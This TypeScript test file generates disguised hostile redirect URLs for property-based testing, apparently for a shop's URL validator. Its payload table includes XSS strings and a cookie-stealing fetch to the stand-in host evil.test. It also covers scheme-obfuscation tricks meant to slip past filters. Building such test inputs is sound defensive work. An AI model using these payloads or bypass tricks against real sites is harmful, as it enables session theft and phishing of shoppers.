/**
 * Addresses a shopper must never be sent to, as an attacker would disguise them: a
 * `javascript:`, `data:` or `vbscript:` URL in mixed case; with the C0 control characters
 * and spaces a URL parser strips from its ends, or the tabs and line breaks it removes
 * from inside, hiding the scheme (`java\tscript:`); percent- or entity-encoded; or an
 * http(s) look-alike whose host a parser refuses (a control character inside it). Each is
 * built so that a browser, told to go there, would not load an http(s) page.
 */
import fc from 'fast-check';

const SCHEMES = ['javascript', 'data', 'vbscript'] as const;
const PAYLOADS: Readonly<Record<(typeof SCHEMES)[number], readonly string[]>> = {
  javascript: ['alert(1)', 'fetch("//evil.test/?"+document.cookie)', '//%0Aalert(1)', 'void(location="https://evil.test")', 'eval(atob("YWxlcnQoMSk="))'],
  data: [
    'text/html,<script>alert(1)</script>',
    'text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'image/svg+xml,<svg onload=alert(1)>',
    ',<h1>pay here</h1>',
  ],
  vbscript: ['msgbox(1)'],
};

/** What a URL parser strips from both ends (C0 controls and space). */
const EDGE = fc.integer({ min: 0, max: 0x20 }).map((code) => String.fromCharCode(code));
/** What a URL parser removes anywhere. */
const INSIDE = fc.constantFrom('\t', '\n', '\r');

const mixedCase = (text: string, bits: number) => [...text].map((letter, i) => ((bits >> i) & 1 ? letter.toUpperCase() : letter)).join('');

/** The scheme with tabs or line breaks inserted, letters in mixed case. */
const disguisedScheme = fc
  .tuple(fc.constantFrom(...SCHEMES), fc.nat(), fc.array(fc.tuple(fc.nat(), INSIDE), { maxLength: 3 }))
  .map(([scheme, bits, inserts]) => {
    let text = mixedCase(scheme, bits);
    for (const [at, char] of inserts) {
      const i = at % (text.length + 1);
      text = `${text.slice(0, i)}${char}${text.slice(i)}`;
    }
    return { scheme, text };
  });

const schemeUrl = fc
  .tuple(disguisedScheme, fc.array(EDGE, { maxLength: 4 }), fc.array(EDGE, { maxLength: 3 }), fc.nat())
  .map(([{ scheme, text }, before, after, n]) => `${before.join('')}${text}:${PAYLOADS[scheme][n % PAYLOADS[scheme].length]}${after.join('')}`);

/** Encodings a careless decoder would turn into a scheme; a URL parser reads them as no URL at all (no base to resolve against). */
const encodedScheme = fc.tuple(fc.constantFrom(...SCHEMES), fc.nat(), fc.constantFrom('percent', 'entity', 'backslash')).map(([scheme, n, how]) => {
  const first = scheme.charCodeAt(0);
  const head = how === 'percent' ? `%${first.toString(16)}` : how === 'entity' ? `&#${first};` : `\\u00${first.toString(16)}`;
  return `${head}${scheme.slice(1)}:${PAYLOADS[scheme][n % PAYLOADS[scheme].length]}`;
});

/** An http(s) address whose host holds a control character or a forbidden one: no page to load. */
const brokenHost = fc
  .tuple(fc.constantFrom('http', 'https', 'HTTPS'), fc.integer({ min: 0, max: 0x1f }), fc.constantFrom('shop.example', 'evil.test'), fc.nat())
  .filter(([, code]) => ![0x09, 0x0a, 0x0d].includes(code))
  .map(([scheme, code, host, at]) => {
    const i = at % host.length;
    return `${scheme}://${host.slice(0, i)}${String.fromCharCode(code)}${host.slice(i)}/pay`;
  });

export const hostileUrl: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: schemeUrl, weight: 6 },
  { arbitrary: encodedScheme, weight: 1 },
  { arbitrary: brokenHost, weight: 2 },
);
